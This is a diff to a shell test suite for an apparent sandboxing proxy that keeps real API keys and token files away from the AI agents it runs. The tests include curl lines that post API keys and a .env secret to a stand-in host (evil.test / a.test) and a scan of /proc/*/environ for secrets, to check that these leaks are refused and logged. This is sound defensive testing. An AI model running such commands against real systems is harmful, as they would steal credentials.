@@ -32,9 +32,10 @@ printf '127.0.0.1 api.test evil.test a.test\n127.0.0.1:%s git.test\n' "$GP" >hos
 # A marker in every real value: nothing inside may hold it (placeholders are random).
 API_REAL=sk-ant-api03-REALMARK$(head -c 48 /dev/urandom | base64 | tr -dc A-Za-z0-9 | head -c 60)AA
 FILE_REAL=REALMARKfile0123456789abcdefABCDEF
-printf '%s\n' "$FILE_REAL" >token.txt
-chmod 600 token.txt
 mkdir -p ws
+# In the workspace, where the agent could read it: masked inside.
+printf '%s\n' "$FILE_REAL" >ws/token.txt
+chmod 600 ws/token.txt
 printf 'NODE_ENV=production\nSECRET_KEY=REALMARKdotenv9f8e7d6c5b4a\nexport DEBUG=1\n' >ws/.env
 export API_KEY=$API_REAL GIT_TOKEN=$GIT_TOKEN_REAL
 P="ports = [ $HP, $SP ]; allow_private = true;"
@@ -47,7 +48,7 @@ network: {
   upstream_ca_file = "$TEST_TMP/upca.pem";
   credentials = (
     { name = "api"; value = "\${API_KEY}"; domains = [ "api.test" ]; header = "x-api-key"; env = "API_KEY"; },
-    { name = "tokfile"; value_file = "$TEST_TMP/token.txt"; domains = [ "api.test" ]; paths = [ "/record" ];
+    { name = "tokfile"; value_file = "token.txt"; domains = [ "api.test" ]; paths = [ "/record" ];
       bearer = true; file = "\$HOME/.config/tool/token"; },
     { name = "git"; value = "\${GIT_TOKEN}"; domains = [ "git.test" ]; basic = "x-access-token"; add = true;
       env = "GIT_TOKEN"; }
@@ -79,6 +80,7 @@ curl -sS -o /dev/null -w "%{http_code} " -d "k=$API_KEY" https://a.test:'$SP'/re
 curl -sS -o /dev/null -w "%{http_code} " -d "k=$(cat .env | sed -n "s/^SECRET_KEY=//p")" https://a.test:'$SP'/record
 echo
 # What a compromised agent would look at: nothing holds a real value.
+echo "token.txt: $(wc -c < token.txt)"
 env | grep -c REALMARK
 cat /proc/[0-9]*/environ 2>/dev/null | tr "\0" "\n" | grep -c REALMARK
 # (the workspace, under /tmp here, holds .env: the guard file, not a binding)
@@ -89,15 +91,17 @@ ok $([ "$codes" = "200 200 403 403 403 " ]; echo $?) "real value to the bound ho
 ok $([ "$(grep -c "^x-api-key: $API_REAL" "$ASB_RECORD")" = 1 ] &&
     [ "$(grep -c "^Authorization: Bearer $FILE_REAL" "$ASB_RECORD")" = 1 ]; echo $?) "the origin received the real values"
 ok $(! grep -q "^POST /record" "$ASB_RECORD"; echo $?) "the refused requests never reached a server"
-ok $([ "$(sed -n 2,4p <<<"$out" | tr '\n' ' ')" = "0 0 0 " ]; echo $?) \
-    "inside: no real value in env, /proc/*/environ, or any file under \$HOME, /tmp (but the workspace), /run ($(sed -n 2,4p <<<"$out" | tr '\n' ' '))"
+ok $([ "$(sed -n 2p <<<"$out")" = "token.txt: 0" ]; echo $?) "the value_file in the workspace is masked inside ($(sed -n 2p <<<"$out"))"
+ok $([ "$(sed -n 3,5p <<<"$out" | tr '\n' ' ')" = "0 0 0 " ]; echo $?) \
+    "inside: no real value in env, /proc/*/environ, or any file under \$HOME, /tmp (but the workspace), /run ($(sed -n 3,5p <<<"$out" | tr '\n' ' '))"
 s=$(sessions | tail -1)
 ok $(grep -q "blocked: GET evil.test:$SP/record (credential for api.test)" "$s/proxy.log" &&
     grep -q "blocked: POST a.test:$SP/record (a secret from guard_files)" "$s/proxy.log"; echo $?) "proxy.log logs the refusals"
 ok $(! grep -rqaF -e "$API_REAL" -e "$FILE_REAL" -e "$GIT_TOKEN_REAL" -e REALMARKdotenv "$s"; echo $?) \
     "the session directory holds no real value (every file)"
 ok $(grep -q "credential api: from \${API_KEY} (${#API_REAL} characters) to api.test as x-api-key; guarded; placeholder in \$API_KEY" "$s/launch.log" &&
-    grep -q "credential tokfile: from file $TEST_TMP/token.txt" "$s/launch.log" &&
+    grep -q "credential tokfile: from file $TEST_TMP/ws/token.txt" "$s/launch.log" &&
+    grep -q "credential tokfile: $TEST_TMP/ws/token.txt is masked inside" "$s/launch.log" &&
     grep -q "guard_files: 1 secret from $TEST_TMP/ws/.env" "$s/launch.log" &&
     grep -q "guard_files: .*missing.env does not exist (optional)" "$s/launch.log"; echo $?) "launch.log records the bindings and guard files"
 ok $(grep -q "credential api: injected by the proxy" "$s/launch.log" &&
@@ -107,7 +111,7 @@ ok $(grep -q "injected: api into GET api.test:$SP/record" "$s/proxy.log"; echo $
 # --- --show-config and agentsandbox allowlist --------------------------------------------
 out=$(asb -c "$TEST_TMP/creds.cfg" --show-config 2>&1)
 ok $(grep -q "^api = <\${API_KEY}: set, ${#API_REAL} characters> to api.test as x-api-key" <<<"$out" &&
-    grep -q "^tokfile = <file $TEST_TMP/token.txt: set, ${#FILE_REAL} characters> to api.test under /record as Authorization: Bearer" <<<"$out" &&
+    grep -q "^tokfile = <file $TEST_TMP/ws/token.txt: set, ${#FILE_REAL} characters> to api.test under /record as Authorization: Bearer" <<<"$out" &&
     grep -q '^network.credentials = ( ... )' <<<"$out" &&
     ! grep -qF -e "$API_REAL" -e "$FILE_REAL" -e "$GIT_TOKEN_REAL" <<<"$out"; echo $?) "--show-config lists the bindings, values redacted"
 block=$("$ASB" allowlist "$s" 2>&1)
@@ -126,9 +130,9 @@ ok $([ "$(tail -1 <<<"$out")" = "[unset]" ] &&
     grep -q 'credential api: ${API_KEY} is empty: not used' "$(sessions | tail -1)/launch.log"; echo $?) "a value that expands to nothing: no binding, nothing set inside"
 err=$(env -u API_KEY "$ASB" --plugin-dir "$ASB_PLUGIN_DIR" -c "$TEST_TMP/creds.cfg" -- -c true 2>&1)
 ok $([ $? -eq 125 ] && grep -q "creds.cfg:8: credentials: value: \$API_KEY is not set" <<<"$err"; echo $?) "an unset variable: an error with file:line ($err)"
-sed "s|$TEST_TMP/token.txt|$TEST_TMP/nope.txt|" "$TEST_TMP/creds.cfg" >"$TEST_TMP/nofile.cfg"
+sed 's|value_file = "token.txt"|value_file = "nope.txt"|' "$TEST_TMP/creds.cfg" >"$TEST_TMP/nofile.cfg"
 err=$(asb -c "$TEST_TMP/nofile.cfg" -- -c true 2>&1)
-ok $([ $? -eq 125 ] && grep -q "credential tokfile: cannot read $TEST_TMP/nope.txt" <<<"$err"; echo $?) "a missing value_file: an error"
+ok $([ $? -eq 125 ] && grep -q "credential tokfile: cannot read $TEST_TMP/ws/nope.txt" <<<"$err"; echo $?) "a missing value_file: an error"
 sed 's/".env", //' "$TEST_TMP/creds.cfg" | sed 's/"missing.env?"/"missing.env"/' >"$TEST_TMP/noguard.cfg"
 err=$(asb -c "$TEST_TMP/noguard.cfg" -- -c true 2>&1)
 ok $([ $? -eq 125 ] && grep -q "guard_files: cannot read .*missing.env.*end it with '?'" <<<"$err"; echo $?) "a missing guard file without '?': an error"
